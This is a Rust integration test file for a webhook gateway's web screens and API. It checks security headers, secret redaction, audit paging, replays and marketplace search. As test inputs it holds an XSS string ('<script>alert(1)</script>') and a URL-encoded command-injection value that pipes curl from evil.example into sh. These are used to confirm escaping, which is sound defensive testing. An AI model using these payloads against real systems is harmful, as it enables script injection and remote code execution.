//! What every screen is made of, whatever it shows.

use std::collections::BTreeSet;

use regex::Regex;
use serde_json::json;

use super::house::{ADA, BOB, House, KEY, PROOF, TOKEN, Visitor, WATCH, people, text};
use crate::outside::http::Reply;
use crate::outside::within;
use crate::support::raw::PATIENCE;

const POLICY: &str = "default-src 'none'; script-src 'self'; style-src 'self'; img-src 'self' data:; connect-src 'self'; \
    form-action 'self'; base-uri 'none'; frame-ancestors 'none'";

/// Every screen of a house where something has happened.
pub async fn paths(house: &House, visitor: &Visitor) -> Vec<String> {
    let hostile = "<script>alert(1)</script>";
    let event =
        house.dead_letter(visitor, &json!({ "type": "rung", "id": "1", "note": hostile, "deep": [{ "a": 1 }] })).await;
    let other = house.dead_letter(visitor, &json!({ "type": "rung", "id": "2", "note": hostile })).await;
    let connection = visitor.connection_of("keyed");
    visitor.post(&format!("/connections/{connection}/test"), &[]);
    let fixed = [
        "/",
        "/integrations",
        "/integrations?q=pay&state=available",
        "/integrations?q=no+such+thing",
        "/integrations/keyed",
        "/integrations/hub",
        "/integrations/bell",
        "/integrations/broken",
        "/integrations/stripe",
        "/integrations/keyed/connect",
        "/integrations/hub/connect",
        "/connections",
        "/connections?status=error",
        "/webhooks?integration=hub",
        "/webhooks/new",
        "/events",
        "/events?type=none",
        "/dead-letters",
        "/replays",
        "/integrations?only=verified&category=payments",
        "/integrations/gitlab",
        "/activity",
        "/activity/live",
        "/events?until=2030-01-01T00:00:00Z&delivery_id=x&limit=2",
        "/dead-letters?until=2030-01-01T00:00:00Z&connection=none",
        "/activity?status=5xx&since=2h&q=none",
        "/activity?outcome=error",
        "/usage",
        "/usage?from=1h&step=1m&compare=previous&integration=keyed",
        "/usage?from=2026-01-01T00:00:00Z&to=2026-01-02T00:00:00Z",
        "/audit",
        "/audit?only=changes&order=oldest&limit=2",
        "/audit?actor=nobody",
        "/audit/check",
        "/audit/1",
        "/configuration",
    ];
    let webhook = webhook(visitor);
    let entry = visitor.get("/api/activity?kind=webhook").json()[0]["id"].as_str().unwrap().to_owned();
    let call = visitor.get("/api/activity?kind=test").json()[0]["id"].as_str().unwrap().to_owned();
    let planned = visitor.post("/dead-letters/replay", &[]);
    let own = [
        planned.header("location").unwrap_or_else(|| panic!("{}", text(&planned))).to_owned(),
        "/webhooks".to_owned(),
        format!("/webhooks/{webhook}"),
        format!("/webhooks/{webhook}/delete"),
        format!("/activity/{entry}"),
        format!("/activity/{call}"),
        format!("/activity/{call}?tab=response"),
        format!("/activity/{call}?tab=attempts"),
        format!("/activity/{call}?tab=timeline"),
        format!("/activity/{call}?tab=raw"),
        format!("/connections/{connection}"),
        format!("/connections/{connection}/remove"),
        format!("/events/{event}"),
        format!("/events/{other}"),
    ];
    fixed.into_iter().map(str::to_owned).chain(own).collect()
}

/// An endpoint to which something has come.
fn webhook(visitor: &Visitor) -> String {
    let made = visitor.post("/webhooks/new", &[("connection", &visitor.connection_of("bell"))]);
    let id = Regex::new("/webhooks/(whk_[0-9a-z]{26})").unwrap().captures(&text(&made)).unwrap()[1].to_owned();
    let tried = visitor.post(&format!("/webhooks/{id}/test"), &[("event", "rung")]);
    let place = format!("/webhooks/{id}?told=webhook_tested");
    assert_eq!((tried.status, tried.header("location")), (303, Some(place.as_str())), "{}", text(&tried));
    let shown = text(&visitor.get(&place));
    assert!(shown.contains("The public door took the test event"), "{shown}");
    visitor.post(&format!("/webhooks/{id}/disable"), &[]);
    id
}

fn count(html: &str, pattern: &str) -> usize {
    Regex::new(pattern).unwrap().find_iter(html).count()
}

fn well_made(path: &str, reply: &Reply) {
    let html = text(reply);
    assert_eq!(reply.header("content-security-policy"), Some(POLICY), "{path}");
    assert_eq!(reply.header("x-frame-options"), Some("DENY"), "{path}");
    assert_eq!(reply.header("x-content-type-options"), Some("nosniff"), "{path}");
    assert_eq!(reply.header("cache-control"), Some("no-store"), "{path}");
    assert_eq!(count(&html, "<h1[ >]"), 1, "{path} has one heading: {html}");
    assert_eq!(count(&html, "<main[ >]"), 1, "{path}");
    assert!(html.contains("<html lang=\"en\">") && html.contains("<title>"), "{path}");
    for inline in ["<style", " style=", "<script>", " onclick=", " onload=", "javascript:"] {
        assert!(!html.contains(inline), "{path} has {inline}");
    }
    assert!(!html.contains("<script>alert") && !html.contains("<b>Bell"), "{path} shows others' markup");
    let ids: Vec<_> = Regex::new(" id=\"([^\"]+)\"").unwrap().captures_iter(&html).map(|id| id[1].to_owned()).collect();
    assert_eq!(ids.iter().collect::<BTreeSet<_>>().len(), ids.len(), "{path} has one id twice: {ids:?}");
    // Every control has a label: around it, or by its id.
    let its_id = Regex::new(" id=\"([^\"]+)\"").unwrap();
    for control in Regex::new("<(?:input|select)\\b[^>]*>").unwrap().find_iter(&html) {
        let tag = control.as_str();
        let id = its_id.captures(tag).map(|id| id[1].to_owned());
        let by_id = id.is_some_and(|id| html.contains(&format!("<label for=\"{id}\"")));
        let (before, _) = html.split_at(control.start());
        let around = before.rfind("<label") > before.rfind("</label>");
        assert!(tag.contains("type=\"hidden\"") || by_id || around, "{path}: {tag} has no label");
    }
}

fn secrets() -> [&'static str; 6] {
    [ADA, BOB, TOKEN, WATCH, KEY, PROOF]
}

#[tokio::test(flavor = "multi_thread")]
async fn every_screen_is_well_made_shows_no_secret_and_leads_somewhere() {
    let house = House::open(&people()).await;
    let visitor = house.signed_in("ada", ADA);
    let mut links = BTreeSet::new();
    let found = Regex::new("(?:href|src)=\"(/[^\"]*)\"").unwrap();
    for path in paths(&house, &visitor).await {
        let reply = visitor.get(&path);
        assert_eq!(reply.status, 200, "{path}: {}", text(&reply));
        well_made(&path, &reply);
        let html = text(&reply);
        for secret in secrets() {
            assert!(!html.contains(secret), "{path} shows {secret}");
        }
        assert!(!html.contains("$argon2id"), "{path} shows a hash");
        links.extend(found.captures_iter(&html).map(|link| link[1].replace("&amp;", "&")));
    }
    assert!(links.len() > 60, "{links:?}");
    for link in links {
        assert_eq!(visitor.get(&link).status, 200, "{link} leads nowhere");
    }
    well_made("a missing page", &visitor.get("/nothing"));
    well_made("the sign-in page", &house.visitor().get("/"));
    assert_eq!(visitor.get("/events/evt_none").status, 400);
    house.close().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_broken_definition_is_listed_with_its_line_and_told_on_every_screen() {
    let house = House::open(&people()).await;
    let visitor = house.signed_in("bob", BOB);
    let market = text(&visitor.get("/integrations?state=broken"));
    assert!(market.contains("card broken") && market.contains("broken.yaml:4:1"), "{market}");
    assert!(text(&visitor.get("/events")).contains("broken.yaml:4:1"));
    let configuration = text(&visitor.get("/configuration"));
    assert!(configuration.contains("auht: { none: {} }") && configuration.contains("auth"), "{configuration}");
    house.close().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn what_changed_in_a_file_is_shown_also_where_it_is_refused() {
    let house = House::open(&people()).await;
    let ada = house.signed_in("ada", ADA);
    let file = house.directory.path().join("integrations/hub.yaml");
    // Whole at once: the gateway may read it at any moment.
    let write = |text: &str| {
        let draft = house.directory.path().join("draft");
        std::fs::write(&draft, text).unwrap();
        std::fs::rename(&draft, &file).unwrap();
        assert_eq!(ada.post("/configuration/reload", &[]).status, 303);
    };
    let query = url::form_urlencoded::byte_serialize(file.to_str().unwrap().as_bytes()).collect::<String>();
    let diff = || ada.get(&format!("/api/config/diff?file={query}")).json();
    assert_eq!((&diff()["lines"], &diff()["from"]), (&serde_json::Value::Null, &serde_json::Value::Null));
    let first = std::fs::read_to_string(&file).unwrap();
    let second = first.replace("title: Hub", "title: Hub of hubs");
    write(&second);
    let lines = diff()["lines"].to_string();
    assert!(lines.contains("-title: Hub\"") && lines.contains("+title: Hub of hubs"), "{lines}");
    write(&format!("{second}auth_token: hunter2hunter2\n"));
    let refused = diff();
    let lines = refused["lines"].to_string();
    assert!(refused["refused"] == true && lines.contains("+auth_token: ") && !lines.contains("hunter2"), "{refused}");
    let page = text(&ada.get(&format!("/configuration/diff?file={query}")));
    assert!(
        page.contains("class=\"added\"") && page.contains("What is refused") && !page.contains("hunter2"),
        "{page}"
    );
    let page = text(&ada.get("/configuration"));
    assert!(page.contains("changed hub") && page.contains("Beside what is in force"), "{page}");
    let generations = ada.get("/api/config").json()["generations"].clone();
    let changed = |one: &serde_json::Value| one["changed"] == json!(["hub"]) && one["rejected"].is_array();
    assert!(generations.as_array().unwrap().iter().any(changed), "{generations}");
    assert_eq!(ada.get("/api/config/diff?file=none").status, 404);
    house.close().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn the_audit_log_is_read_in_pages_by_filters_and_checked_by_viewers_too() {
    let house = House::open(&people()).await;
    let ada = house.signed_in("ada", ADA);
    for _ in 0..3 {
        assert_eq!(ada.post("/configuration/reload", &[]).status, 303);
    }
    let bob = house.signed_in("bob", BOB);
    let read = |path: &str| text(&bob.get(path));
    let all = read("/audit");
    assert!(all.contains(">bob</a>") && all.contains(">config.reload</a>") && all.contains("Each continues"), "{all}");
    assert!(all.find(">bob</a>") < all.find(">ada</a>"), "the newest come first: {all}");
    let changes = read("/audit?only=changes&actor=ada&limit=2");
    assert!(changes.contains("2 entries") && !changes.contains(">sign_in</a>"), "{changes}");
    let next_of = |page: &str| {
        let next = Regex::new("rel=\"next\" href=\"([^\"]+)\"").unwrap();
        next.captures(page).unwrap()[1].replace("&amp;", "&")
    };
    let next = next_of(&changes);
    assert!(next.contains("only=changes") && next.contains("actor=ada"), "{next}");
    let older = read(&next);
    assert!(older.contains("1 entry") && older.contains("First page"), "{older}");
    let oldest = read("/audit?order=oldest&limit=2");
    assert!(oldest.contains(">config.applied</a>") && oldest.contains(">sign_in</a>"), "{oldest}");
    let found = read("/audit?q=CONFIG.re&limit=2");
    assert!(found.contains("2 entries") && found.contains("value=\"CONFIG.re\""), "{found}");
    assert!(next_of(&found).contains("q=CONFIG.re"), "{found}");
    assert_eq!(bob.get("/api/audit?q=CONFIG.re").json().as_array().unwrap().len(), 3);
    assert!(read("/audit?q=nothing-like-it").contains("No entry fits"));
    let overview = read("/");
    assert!(overview.contains("What changed recently") && overview.contains(">config.reload</a>"), "{overview}");
    let checked = read("/audit/check");
    assert!(checked.contains("Whole") && checked.contains("6 entries were read"), "{checked}");
    let answer = bob.get("/api/audit/check").json();
    assert_eq!((&answer["whole"], &answer["entries"], &answer["broken"]), (&json!(true), &json!(6), &json!([])));
    house.close().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_wrong_filter_is_refused_in_plain_words_with_its_name() {
    let house = House::open(&people()).await;
    let ada = house.signed_in("ada", ADA);
    for (path, detail) in [
        (
            "/api/events?limti=3",
            "there is no parameter `limti` here; there are integration, connection, webhook, state",
        ),
        ("/api/events?state=alive", "`state`: `alive` is not one of queued, delivering, done, discarded, dead"),
        ("/api/activity?limit=many", "`limit`: `many` is not a whole number, or is out of its bounds"),
        ("/api/events?limit=1&limit=2", "`limit` is given twice"),
        ("/api/events/%ff", "a part of the path is not UTF-8"),
    ] {
        let reply = ada.send("GET", path, &[("accept", "application/json")], "");
        let told = reply.json();
        assert_eq!((reply.status, &told["title"]), (400, &json!("An input is missing or wrong")), "{path}");
        assert!(told["detail"].as_str().unwrap().starts_with(detail), "{path}: {told}");
    }
    house.close().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_key_is_tried_then_kept_and_never_shown_again() {
    let house = House::open(&people()).await;
    let ada = house.signed_in("ada", ADA);
    let form = |key: &'static str, act: &'static str| {
        [("connection", "mine"), ("input.site", "north"), ("input.pin", "4711-canary"), ("api_key", key), ("do", act)]
    };
    let wrong = ada.post("/integrations/keyed/connect", &form("sk_wrong", "save"));
    let page = text(&wrong);
    assert!(page.contains("It is not kept") && page.contains("no such key"), "{page}");
    assert!(page.contains("value=\"north\"") && !page.contains("sk_wrong") && !page.contains("4711-canary"), "{page}");
    assert!(text(&ada.post("/integrations/keyed/connect", &form("sk_good", "test"))).contains("It works"));
    assert_eq!(ada.get("/api/connections").json().as_array().unwrap().len(), 2, "a test keeps nothing");
    let kept = ada.post("/integrations/keyed/connect", &form("sk_good", "save"));
    let place = kept.header("location").unwrap_or_else(|| panic!("{}", text(&kept))).to_owned();
    let page = text(&ada.get(&place));
    assert!(page.contains("The connection was tried and is kept") && !page.contains("sk_good"), "{page}");
    let connection = place.split('?').next().unwrap();
    assert_eq!(ada.post(&format!("{connection}/pause"), &[]).status, 303);
    assert!(text(&ada.get("/connections?status=paused")).contains("keyed / mine"));
    assert!(text(&ada.get(&format!("{connection}/remove"))).contains("connection_unknown"));
    assert_eq!(ada.post(&format!("{connection}/remove"), &[]).header("location"), Some("/connections?told=removed"));
    assert_eq!(ada.get(connection).status, 404);
    house.close().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn dead_letters_are_planned_and_replayed() {
    let house = House::open(&people()).await;
    let ada = house.signed_in("ada", ADA);
    let event = house.dead_letter(&ada, &json!({ "type": "rung", "id": "1" })).await;
    assert!(text(&ada.get("/dead-letters")).contains("Plan a replay of all 1…"));
    let planned = ada.post("/dead-letters/replay?integration=bell", &[]);
    let place = planned.header("location").unwrap_or_else(|| panic!("{}", text(&planned))).to_owned();
    // What is given up between the plan and its run is not run.
    house.dead_letter(&ada, &json!({ "type": "rung", "id": "2" })).await;
    let plan = text(&ada.get(&place));
    assert!(plan.contains("1 delivery would be tried again"), "{plan}");
    assert!(plan.contains("<dt>deliver app</dt><dd>1</dd>"), "{plan}");
    let begun = ada.post(&format!("{place}/run"), &[]);
    assert_eq!(begun.header("location"), Some(format!("{place}?told=replay_begun").as_str()), "{}", text(&begun));
    let place = place.as_str();
    let ended = || text(&ada.get(place)).contains(">Done</span> 1 of 1 delivery is being tried again");
    assert!(within(PATIENCE, ended), "{}", text(&ada.get(place)));
    assert!(text(&ada.get("/replays")).contains(place));
    assert_eq!(ada.post(&format!("{place}/cancel"), &[]).status, 409);
    let log = trunkline::store::Audit::read(&**house.running.store(), 1, 100).await.unwrap();
    let replay = log.iter().find(|record| record.entry.action == "delivery.replay").unwrap();
    assert_eq!(replay.entry.actor, "ada");
    assert!(log.iter().any(|record| record.entry.action == "replay.run"));
    assert!(text(&ada.get(&format!("/events/{event}"))).contains("Run its rules again"));
    house.close().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn many_dead_letters_are_planned_run_and_cancelled_by_the_api_too() {
    let house = House::open(&people()).await;
    let ada = house.signed_in("ada", ADA);
    house.dead_letter(&ada, &json!({ "type": "rung", "id": "1" })).await;
    let send = |method: &str, path: &str| ada.send(method, path, &[("trunkline-form", ada.form.as_str())], "");
    let plan = |query: &str| send("POST", &format!("/api/replays{query}"));
    let made = plan("?integration=bell");
    let shown = made.json();
    assert_eq!(
        (made.status, &shown["state"], &shown["planned"], &shown["more"]),
        (201, &json!("planned"), &json!(1), &json!(false))
    );
    assert_eq!(
        (&shown["filter"], &shown["actions"]),
        (&json!({ "integration": "bell" }), &json!({ "deliver app": 1 }))
    );
    let id = shown["id"].as_str().unwrap().to_owned();
    // Filters are in the query: a body would select nothing, and everything would be planned.
    let own = [("trunkline-form", ada.form.as_str()), ("content-type", "application/json")];
    let said = ada.send("POST", "/api/replays", &own, "{\"integration\":\"keyed\"}");
    assert_eq!((said.status, &said.json()["detail"]), (400, &json!("this path takes no body")));
    // A plan that is cancelled is not run.
    assert_eq!(send("POST", &format!("/api/replays/{id}/cancel")).status, 202);
    assert_eq!(send("POST", &format!("/api/replays/{id}/run")).status, 409);
    assert_eq!(plan("?integration=keyed").json()["planned"], 0);
    let id = plan("").json()["id"].as_str().unwrap().to_owned();
    assert_eq!(send("POST", &format!("/api/replays/{id}/run")).status, 202);
    let state = || ada.get(&format!("/api/replays/{id}")).json();
    assert!(within(PATIENCE, || state()["state"] == "done"), "{}", state());
    assert_eq!((&state()["replayed"], &state()["passed_over"]), (&json!(1), &json!(0)));
    assert_eq!(ada.get("/api/replays").json().as_array().unwrap().len(), 3);
    assert_eq!(ada.get("/api/replays/1").status, 404);
    house.close().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn integrations_are_rated_once_a_person_and_the_mean_is_shown() {
    let house = House::open(&people()).await;
    let ada = house.signed_in("ada", ADA);
    let rating = || ada.get("/api/integrations/marketplace?q=keyed").json()[0]["rating"].clone();
    assert_eq!(rating(), serde_json::Value::Null);
    for (stars, comment) in [("2", "slow"), ("4", "better <b>now</b>")] {
        let rated = ada.post("/integrations/keyed/rating", &[("stars", stars), ("comment", comment)]);
        assert_eq!(rated.header("location"), Some("/integrations/keyed?told=rated"), "{}", text(&rated));
    }
    assert_eq!(rating(), 4.0);
    let page = text(&ada.get("/integrations/keyed"));
    assert!(
        page.contains("4 of 5</strong> by ada") && page.contains("better &lt;b&gt;now") && !page.contains("slow"),
        "{page}"
    );
    let all = ada.get("/api/integrations/keyed/ratings").json();
    assert_eq!((&all["count"], &all["ratings"][0]["by"]), (&json!(1), &json!("ada")));
    assert_eq!(ada.get("/api/integrations/marketplace?only=rated").json().as_array().unwrap().len(), 1);
    assert_eq!(ada.post("/integrations/keyed/rating", &[("stars", "6")]).status, 400);
    assert_eq!(ada.get("/api/integrations/none/ratings").status, 404);
    let bob = house.signed_in("bob", BOB);
    assert_eq!(bob.post("/integrations/keyed/rating", &[("stars", "1")]).status, 403);
    assert_eq!(ada.post("/integrations/keyed/rating/remove", &[]).status, 303);
    assert_eq!(rating(), serde_json::Value::Null);
    let log = trunkline::store::Audit::read(&**house.running.store(), 1, 100).await.unwrap();
    assert_eq!(log.iter().filter(|record| record.entry.action == "integration.rate").count(), 3);
    house.close().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn an_entry_of_the_catalogue_is_installed_by_a_file_and_stays_verified() {
    let house = House::open(&people()).await;
    let ada = house.signed_in("ada", ADA);
    let row = |id: &str| ada.get(&format!("/api/integrations/marketplace?q={id}")).json()[0].clone();
    assert_eq!((&row("stripe")["state"], &row("stripe")["verified"]), (&json!("available"), &json!(true)));
    assert_eq!(row("keyed")["verified"], json!(false));
    let plan = ada.get("/api/integrations/gitlab/install").json();
    let needs = plan["needs"].to_string();
    assert!(needs.contains("GITLAB_CLIENT_SECRET") && needs.contains("/api/auth/callback/gitlab"), "{plan}");
    let page = text(&ada.get("/integrations/gitlab"));
    assert!(
        page.contains("Write the file") && page.contains(">Missing</span>") && page.contains("extends: gitlab"),
        "{page}"
    );
    let done = ada.post("/integrations/gitlab/install", &[]);
    assert_eq!(done.header("location"), Some("/integrations/gitlab?told=installed"), "{}", text(&done));
    let file = house.directory.path().join("integrations/gitlab.yaml");
    assert!(std::fs::read_to_string(&file).unwrap().contains("# Once the variables are set"));
    assert_eq!((&row("gitlab")["state"], &row("gitlab")["verified"]), (&json!("installed"), &json!(true)));
    let page = text(&ada.get("/integrations/gitlab"));
    assert!(
        page.contains("What is missing") && page.contains("GITLAB_CLIENT_ID") && page.contains("Enter at the service"),
        "{page}"
    );
    let overview = text(&ada.get("/"));
    let lack = "href=\"/integrations/gitlab#missing\">gitlab lacks auth.oauth2.client and webhook.secrets</a>";
    assert!(overview.contains(lack) && !overview.contains("keyed lacks"), "{overview}");
    // A variable that is named and not there.
    let unset = house.directory.path().join("integrations/unset.yaml");
    let webhook =
        "webhook: { verify: { token: { header: X-Token } }, secrets: [\"${env:UNSET_SECRET}\"], event: body.type }\n";
    std::fs::write(
        &unset,
        format!("trunkline: 1\nid: unset\ntitle: Unset\nsummary: Unset.\nauth: {{ none: {{}} }}\n{webhook}"),
    )
    .unwrap();
    assert_eq!(ada.post("/configuration/reload", &[]).status, 303);
    let overview = text(&ada.get("/"));
    assert!(overview.contains("unset.yaml names secrets that are not there and is not in force"), "{overview}");
    assert!(overview.contains("UNSET_SECRET"), "{overview}");
    std::fs::remove_file(&unset).unwrap();
    assert_eq!(ada.post("/integrations/gitlab/install", &[]).status, 409);
    // Whoever changes what the entry says of the service has another definition.
    let changed = std::fs::read_to_string(&file).unwrap() + "summary: Mine.\n";
    let draft = house.directory.path().join("draft");
    std::fs::write(&draft, changed).unwrap();
    std::fs::rename(&draft, &file).unwrap();
    assert_eq!(ada.post("/configuration/reload", &[]).status, 303);
    assert_eq!(row("gitlab")["verified"], json!(false));
    house.close().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_consent_is_asked_for_by_a_link() {
    let house = House::open(&people()).await;
    let ada = house.signed_in("ada", ADA);
    let made = text(&ada.post("/integrations/hub/connect", &[("connection", "team"), ("do", "link")]));
    assert!(made.contains("/api/connect/hub?"), "{made}");
    let outcome = Regex::new("href=\"(/connect-links/[^\"]+)\"").unwrap().captures(&made).unwrap()[1].to_owned();
    let page = text(&ada.get(&outcome));
    assert!(page.contains("Waiting") && page.contains("hx-trigger"), "{page}");
    house.close().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn the_marketplace_is_an_api_with_the_same_filters() {
    let house = House::open(&people()).await;
    let ada = house.signed_in("ada", ADA);
    let rows = ada.get("/api/integrations/marketplace?state=installed&q=keys").json();
    let row = &rows.as_array().unwrap()[0];
    let expected = json!({
        "id": "keyed", "name": "Keyed Service", "provider": "keyed", "category": "payments", "description": "Has keys.",
        "logo": "/integrations/keyed/logo.svg", "authType": "api_key", "features": ["API key"], "pricing": "paid",
        "installs": 1, "featured": true, "state": "installed", "docs": "https://keyed.example/docs",
    });
    for (name, value) in expected.as_object().unwrap() {
        assert_eq!(&row[name], value, "{name}");
    }
    let logo = ada.get("/integrations/keyed/logo.svg");
    assert_eq!(
        logo.header("content-security-policy"),
        Some("default-src 'none'; style-src 'unsafe-inline'; frame-ancestors 'none'; sandbox")
    );
    assert_eq!(ada.get("/api/integrations/marketplace?colour=red").status, 400);
    house.close().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_refused_filter_is_told_where_its_results_would_stand() {
    let house = House::open(&people()).await;
    let part = |visitor: &Visitor, path: &str| {
        let headers = [("accept", "text/html"), ("hx-request", "true"), ("hx-target", "div#results")];
        visitor.send("GET", path, &headers, "")
    };
    let visitor = house.signed_in("ada", ADA);
    for (path, fault) in [
        ("/activity?status=4", "`4` is not right: expected a status such as 404"),
        ("/usage?from=1", "`1` is not a time"),
    ] {
        let reply = part(&visitor, path);
        let html = text(&reply);
        assert!(html.contains("<div id=\"results\"") && html.contains(fault), "{path}: {html}");
        assert_eq!((reply.status, reply.header("hx-push-url")), (200, Some("false")), "{path}");
        assert_eq!(visitor.get(path).status, 400, "{path} as a page");
    }
    let missing = part(&visitor, "/events/evt_00000000000000000000000001");
    assert_eq!(missing.status, 404);
    // Nobody signs in within a part of a page.
    let stranger = part(&house.visitor(), "/activity?q=a%26b");
    assert_eq!(stranger.status, 401);
    assert_eq!(stranger.header("hx-redirect"), Some("/sign-in?to=%2Factivity%3Fq%3Da%2526b"));
    house.close().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_slip_in_a_search_is_mended_and_an_empty_one_shows_a_definition_that_counts() {
    let house = House::open(&people()).await;
    let ada = house.signed_in("ada", ADA);
    let ids = |q: &str| {
        let rows = ada.get(&format!("/api/integrations/marketplace?q={q}")).json();
        rows.as_array().unwrap().iter().map(|row| row["id"].as_str().unwrap().to_owned()).collect::<Vec<_>>()
    };
    for (slip, meant) in [("gihub", "github"), ("slak", "slack"), ("strpe+paymnts", "stripe")] {
        assert!(ids(slip).iter().any(|id| id == meant), "{slip}: {:?}", ids(slip));
    }
    assert_eq!(ids("no+such+thing"), Vec::<String>::new());
    assert!(text(&ada.get("/integrations?q=gihub")).contains("This is what fits “github”"));
    let page = text(&ada.get("/integrations?q=%3B%20curl%20evil.example%7Csh%20%23"));
    let (_, rest) = page.split_once("<pre tabindex=\"0\">").unwrap_or_else(|| panic!("{page}"));
    let (shown, _) = rest.split_once("</pre>").unwrap();
    assert!(!shown.contains("evil"), "{shown}");
    let file = shown.replace("&quot;", "\"").replace("&#x2f;", "/");
    std::fs::write(house.directory.path().join("integrations/my-service.yaml"), file).unwrap();
    house.running.reloader().reload().await;
    assert_eq!(ids("my-service"), ["my-service"]);
    assert_eq!(ada.get("/api/integrations/marketplace?q=my-service").json()[0]["problems"], json!([]));
    house.close().await;
}
